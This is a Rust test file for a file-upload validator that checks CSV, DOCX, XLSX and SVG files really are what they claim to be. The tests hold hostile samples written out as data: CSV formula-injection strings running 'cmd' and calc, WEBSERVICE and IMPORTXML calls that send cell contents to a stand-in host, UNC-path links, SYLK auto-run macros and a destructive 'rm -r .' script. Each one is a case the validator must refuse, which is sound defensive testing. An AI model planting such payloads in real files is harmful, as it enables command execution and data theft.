use crate::corpus::{honest, kinds, ooxml, refused, verdict};
use epissure_files::{Kind, Reason, Verdict};

#[test]
fn a_file_of_one_kind_is_not_kept_as_another() {
    for content in kinds() {
        let file = honest(content, 100);
        for kind in kinds().filter(|kind| *kind != content) {
            let said = verdict(kind, &file);
            assert_eq!(said, Verdict::Rejected(Reason::Content), "{content:?} as {kind:?}");
        }
    }
}

#[test]
fn a_program_a_page_or_nothing_is_of_no_kind() {
    for kind in kinds() {
        let files = [
            ("nothing", b"".to_vec(), Reason::Empty),
            ("a program", b"MZ\x90\x00\x03".to_vec(), Reason::Content),
            ("an archive of another sort", b"Rar!\x1a\x07\x00".to_vec(), Reason::Content),
            ("a page", b"<!DOCTYPE html><script>1</script>".to_vec(), html(kind)),
        ];
        refused(kind, files);
    }
}

/// Returns the reason for HTML, which is markup like SVG until its document type is read.
fn html(kind: Kind) -> Reason {
    if kind == Kind::Svg { Reason::DocumentType } else { Reason::Content }
}

#[test]
fn a_csv_is_nothing_but_text() {
    let files = [
        ("NUL", b"a;b\0\n".to_vec(), Reason::Content),
        ("UTF-16 without its mark", b"a\0;\0".to_vec(), Reason::Content),
        ("half a character of UTF-16", b"\xff\xfea\0;".to_vec(), Reason::Content),
        ("half a pair of UTF-16", b"\xff\xfe\x3d\xd8a\0".to_vec(), Reason::Content),
        ("NUL in UTF-16", b"\xff\xfea\0\0\0".to_vec(), Reason::Content),
        ("a page in UTF-16", utf16("<html><script>"), Reason::Content),
        ("no character of UTF-32", b"\xff\xfe\0\0a\0\x11\0".to_vec(), Reason::Content),
        ("text behind the end of one of DOS", b"a;b\n\x1aMZ".to_vec(), Reason::Content),
        (
            "bytes beyond ASCII alone",
            crate::corpus::noise(500).iter().map(|one| one | 0x80).collect(),
            Reason::Content,
        ),
        (
            "a page that was archived",
            b"mime-version: 1.0\nContent-Type: multipart/related\n".to_vec(),
            Reason::Content,
        ),
        ("SYLK", b"ID;PWXL;N;E\nC;X1;Y1;K\"a\"\nE\n".to_vec(), Reason::Content),
        (
            "SYLK that runs",
            b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"calc\")\r\n".to_vec(),
            Reason::Content,
        ),
        ("SYLK in UTF-16", utf16("id;p\nc;x1;y1;eEXEC(\"calc\")\n"), Reason::Content),
        ("SYLK with other fields", b"ID;P\nC;N;X1;Y1;K1\n".to_vec(), Reason::Content),
        ("SYLK behind a mark", b"\xef\xbb\xbfID;P\nC;EEXEC(1)".to_vec(), Reason::Content),
        ("control characters", b"a\x1b[2J\n".to_vec(), Reason::Content),
        ("no character of Windows-1252, nor UTF-8", b"a\x81\xff\n".to_vec(), Reason::Content),
        ("markup", b" \n<svg xmlns='x'/>".to_vec(), Reason::Content),
        ("a shell script", b"#!/bin/sh\nrm -r .\n".to_vec(), Reason::Content),
    ];
    refused(Kind::Csv, files);
}

#[test]
fn cells_call_nothing_that_fetches_or_runs() {
    let outside = [
        "=cmd|' /C calc'!A0\n",
        "a;b\n1;+cmd|'/c calc'!A0\n",
        "1;\"=cmd|'/c calc'!A0\";2\n",
        "1,\"@HYPERLINK(\"\"\\\\server\\share\"\",\"\"a\"\")\"\n",
        "=HYPERLINK(\"file:///c:/a\";\"a\")\n",
        "1\t=IF(1,WEBSERVICE(\"http://x\"),0)\n",
        " =LIEN_HYPERTEXTE(\"\\\\serveur\\a\")",
        "=IMPORTXML(CONCAT(\"http://x?\";A1);\"//a\")\n",
        "='\\\\server\\[a.xlsx]S'!A1\n",
    ];
    refused(Kind::Csv, outside.map(|text| (text, text.into(), Reason::ExternalReference)));
    let wide = utf16("a;b\n1;=cmd|'/c calc'!A0\n");
    let mut macintosh = b"num\x8ero;=cmd|'/c calc'!A0\r".to_vec();
    macintosh.extend(b"r\x8fgle;2\r");
    let encoded = [("UTF-16", wide), ("Mac OS Roman", macintosh)];
    refused(Kind::Csv, encoded.map(|(name, file)| (name, file, Reason::ExternalReference)));
    refused(Kind::Csv, [("a macro", b"=EXEC(\"calc\")\n".to_vec(), Reason::Macro)]);
}

/// Encodes a text in little-endian UTF-16, with its byte order mark.
fn utf16(text: &str) -> Vec<u8> {
    std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
}

#[test]
fn a_document_with_a_password_is_told_from_one_of_the_old_format() {
    let mut old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    old.resize(4096, 0);
    let mut encrypted = old.clone();
    let name: Vec<u8> = "EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes).collect();
    encrypted[2048 + 128..][..name.len()].copy_from_slice(&name);
    for kind in [Kind::Xlsx, Kind::Docx] {
        refused(
            kind,
            [("old", old.clone(), Reason::Content), ("encrypted", encrypted.clone(), Reason::Encrypted)],
        );
    }
}

#[test]
fn a_text_and_a_sheet_are_told_apart_by_their_main_part() {
    let template = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml";
    let files = [
        ("a sheet", ooxml::typed(Kind::Docx, ooxml::main_type(Kind::Xlsx), ""), Reason::Content),
        ("a template", ooxml::typed(Kind::Docx, template, ""), Reason::Content),
    ];
    refused(Kind::Docx, files);
}
